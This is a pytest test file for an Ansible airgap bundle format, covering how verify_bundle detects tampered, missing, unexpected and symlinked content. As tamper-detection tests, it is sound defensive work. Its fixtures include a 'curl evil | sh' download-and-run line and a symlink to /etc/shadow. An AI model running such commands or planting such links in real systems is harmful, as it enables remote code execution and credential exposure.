"""Specification of the bundle format: manifest.json and what verify_bundle refuses, by name."""
from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from ansible_collections.airgap.kubernetes.plugins.module_utils import bundle as bf

IMAGE = "registry.k8s.io/pause:3.10.2"
ETCD = "files/github.com/etcd-io/etcd/releases/download/v3.4.23/etcd"
V2 = Path(bf.REGISTRY_V2)


def _put_blob(root: Path, data: bytes) -> str:
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    path = root / V2 / "blobs" / "sha256" / digest[7:9] / digest[7:] / "data"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return digest


def _link(path: Path, digest: str) -> None:
    path.mkdir(parents=True, exist_ok=True)
    (path / "link").write_text(digest)


def _put_image(root: Path, ref: str, layer: bytes) -> tuple[str, str, str]:
    """The on-disk layout docker-registry writes for a pushed image; returns (manifest, config, layer) digests."""
    repository, tag, _ = bf.split_reference(ref)
    layer_digest = _put_blob(root, layer)
    config_digest = _put_blob(root, json.dumps({"architecture": "amd64", "os": "linux"}).encode())
    manifest = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
        "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "digest": config_digest, "size": 1},
        "layers": [{"mediaType": "application/vnd.docker.image.rootfs.diff.tar.gzip", "digest": layer_digest, "size": 1}],
    }
    manifest_digest = _put_blob(root, json.dumps(manifest).encode())
    repo = root / V2 / "repositories" / repository
    for digest in (layer_digest, config_digest):
        _link(repo / "_layers" / "sha256" / digest[7:], digest)
    _link(repo / "_manifests" / "revisions" / "sha256" / manifest_digest[7:], manifest_digest)
    _link(repo / "_manifests" / "tags" / str(tag) / "current", manifest_digest)
    return manifest_digest, config_digest, layer_digest


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    """A small bundle: two mirrored files, an apt suite with its key, one image in registry storage."""
    root = tmp_path / "airgap-bundle"
    for rel, data in {
        ETCD: b"\x7fELF etcd",
        "files/dl.k8s.io/release/v1.20.2/bin/linux/amd64/kubectl": b"\x7fELF kubectl",
        "apt/dists/bookworm/InRelease": b"signed release",
        "apt/pool/bookworm/main/nginx_1.22.1-9_amd64.deb": b"!<arch>",
        bf.APT_KEY: b"-----BEGIN PGP PUBLIC KEY BLOCK-----",
    }.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    _put_image(root, IMAGE, b"layer-bytes")
    bf.write_manifest(root, images={IMAGE: bf.read_tag_digest(root, IMAGE)}, arches=["amd64"], apt_suites=["bookworm"])
    return root


def _names(problems: list[bf.Problem]) -> list[str]:
    return [p.name for p in problems]


def test_clean_bundle_has_no_problems(bundle: Path) -> None:
    assert bf.verify_bundle(bundle) == []


def test_manifest_lists_every_file_outside_registry_storage_with_sha256(bundle: Path) -> None:
    manifest = json.loads((bundle / "manifest.json").read_text())
    assert manifest["format"] == bf.FORMAT and manifest["format_version"] == 1
    assert manifest["files"][ETCD]["sha256"] == hashlib.sha256(b"\x7fELF etcd").hexdigest()
    assert not [p for p in manifest["files"] if p.startswith("registry/") or p == "manifest.json"]
    assert manifest["apt"] == {"key": bf.APT_KEY, "suites": ["bookworm"]}


def test_modified_file_is_named(bundle: Path) -> None:
    (bundle / ETCD).write_bytes(b"\x7fELF evil")
    problems = bf.verify_bundle(bundle)
    assert _names(problems) == [ETCD]
    assert problems[0].kind == "modified"


def test_missing_file_is_named(bundle: Path) -> None:
    (bundle / ETCD).unlink()
    problems = bf.verify_bundle(bundle)
    assert [(p.kind, p.name) for p in problems] == [("missing", ETCD)]


def test_file_not_in_manifest_is_refused(bundle: Path) -> None:
    extra = bundle / "files" / "example.com" / "extra.sh"
    extra.parent.mkdir(parents=True)
    extra.write_text("curl evil | sh")
    problems = bf.verify_bundle(bundle)
    assert [(p.kind, p.name) for p in problems] == [("unexpected", "files/example.com/extra.sh")]


def test_symlink_in_served_tree_is_refused(bundle: Path) -> None:
    (bundle / "files" / "shadow").symlink_to("/etc/shadow")
    assert [(p.kind, p.name) for p in bf.verify_bundle(bundle)] == [("unexpected", "files/shadow")]


def test_a_symlink_in_registry_storage_is_refused_even_to_a_blob_with_the_right_content(bundle: Path) -> None:
    digest = bf.read_tag_digest(bundle, IMAGE)
    blob = bundle / V2 / "blobs" / "sha256" / digest[7:9] / digest[7:] / "data"
    copy = bundle.parent / "elsewhere"
    copy.write_bytes(blob.read_bytes())
    blob.unlink()
    blob.symlink_to(copy)
    (bundle / V2 / "repositories" / "shadow").symlink_to("/etc")
    problems = bf.verify_bundle(bundle)
    assert [(p.kind, p.name, p.detail) for p in problems] == [
        ("unexpected", blob.relative_to(bundle).as_posix(),
         f"is a symlink to {copy}: a bundle holds only regular files and directories"),
        ("unexpected", f"{bf.REGISTRY_V2}/repositories/shadow",
         "is a symlink to /etc: a bundle holds only regular files and directories")]


def test_registry_storage_that_is_itself_a_symlink_is_refused(bundle: Path) -> None:
    (bundle / "registry").rename(bundle.parent / "registry")
    (bundle / "registry").symlink_to(bundle.parent / "registry")
    assert ("unexpected", "registry") in [(p.kind, p.name) for p in bf.verify_bundle(bundle)]


def test_a_fifo_in_registry_storage_is_refused(bundle: Path) -> None:
    os.mkfifo(bundle / V2 / "pipe")
    assert [str(p) for p in bf.verify_bundle(bundle)] == [
        f"{bf.REGISTRY_V2}/pipe: is a fifo: a bundle holds only regular files and directories"]


def test_modified_layer_blob_is_named_with_its_image_reference(bundle: Path) -> None:
    _, _, layer = _put_image(bundle / "scratch", IMAGE, b"layer-bytes")  # same digest as in the bundle
    blob = bundle / V2 / "blobs" / "sha256" / layer[7:9] / layer[7:] / "data"
    blob.write_bytes(b"layer-bytes, tampered")
    problems = [p for p in bf.verify_bundle(bundle) if p.kind == "image"]
    assert _names(problems) == [IMAGE]
    assert layer in problems[0].detail and "modified" in problems[0].detail


def test_missing_config_blob_is_named_with_its_image_reference(bundle: Path) -> None:
    manifest_digest = bf.read_tag_digest(bundle, IMAGE)
    doc = json.loads((bundle / V2 / "blobs" / "sha256" / manifest_digest[7:9] / manifest_digest[7:] / "data").read_bytes())
    config = doc["config"]["digest"]
    (bundle / V2 / "blobs" / "sha256" / config[7:9] / config[7:] / "data").unlink()
    problems = bf.verify_bundle(bundle)
    assert _names(problems) == [IMAGE] and "missing" in problems[0].detail


def test_retagged_image_is_named(bundle: Path) -> None:
    other, _, _ = _put_image(bundle, "registry.k8s.io/pause:other", b"other layer")
    tag = bundle / V2 / "repositories" / "registry.k8s.io" / "pause" / "_manifests" / "tags" / "3.10.2" / "current" / "link"
    tag.write_text(other)
    problems = bf.verify_bundle(bundle)
    assert _names(problems) == [IMAGE] and other in problems[0].detail


def test_extra_content_in_registry_storage_is_tolerated(bundle: Path) -> None:
    _put_image(bundle, "docker.io/library/busybox:pushed-later", b"pushed on localhost")
    assert bf.verify_bundle(bundle) == []


def test_sparse_index_needs_only_the_bundle_arches(bundle: Path) -> None:
    amd64 = bf.read_tag_digest(bundle, IMAGE)
    index = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.index.v1+json",
        "manifests": [
            {"digest": amd64, "platform": {"architecture": "amd64", "os": "linux"}},
            {"digest": "sha256:" + "a" * 64, "platform": {"architecture": "arm64", "os": "linux"}},
        ],
    }
    index_digest = _put_blob(bundle, json.dumps(index).encode())
    repo = bundle / V2 / "repositories" / "registry.k8s.io" / "pause" / "_manifests"
    _link(repo / "revisions" / "sha256" / index_digest[7:], index_digest)
    _link(repo / "tags" / "multi" / "current", index_digest)
    bf.write_manifest(bundle, images={"registry.k8s.io/pause:multi": index_digest}, arches=["amd64"],
                      apt_suites=["bookworm"])
    assert bf.verify_bundle(bundle) == []
    bf.write_manifest(bundle, images={"registry.k8s.io/pause:multi": index_digest}, arches=["amd64", "arm64"],
                      apt_suites=["bookworm"])
    assert _names(bf.verify_bundle(bundle)) == ["registry.k8s.io/pause:multi"]


@pytest.mark.parametrize("content, message", [
    ("{not json", "is not valid JSON"),
    ('{"format": "something else"}', "is not a bundle manifest"),
    (json.dumps({"format": bf.FORMAT, "format_version": 99}), "format_version 99"),
    (json.dumps({"format": bf.FORMAT, "format_version": 1, "files": {"a": {"sha256": "x"}}, "images": {}}), '"files"'),
])
def test_corrupt_manifest_is_a_clear_error(bundle: Path, content: str, message: str) -> None:
    (bundle / "manifest.json").write_text(content)
    with pytest.raises(bf.BundleError, match="manifest.json") as err:
        bf.verify_bundle(bundle)
    assert message in str(err.value)


def test_missing_manifest_says_this_is_not_a_bundle(tmp_path: Path) -> None:
    with pytest.raises(bf.BundleError, match="not an unpacked bundle"):
        bf.verify_bundle(tmp_path)


def test_problems_read_as_name_then_what_is_wrong(bundle: Path) -> None:
    (bundle / ETCD).write_bytes(b"changed")
    assert str(bf.verify_bundle(bundle)[0]).startswith(f"{ETCD}: is modified")


def test_write_manifest_refuses_apt_suites_without_key(bundle: Path) -> None:
    (bundle / bf.APT_KEY).unlink()
    with pytest.raises(bf.BundleError, match=bf.APT_KEY):
        bf.write_manifest(bundle, images={}, arches=["amd64"], apt_suites=["bookworm"])


def test_summary_names_the_smallest_mirrored_file_for_health_checks(bundle: Path) -> None:
    summary = bf.summary(bundle)
    assert summary["sample_file"]["path"] == ETCD
    assert summary["repositories"] == ["registry.k8s.io/pause"]
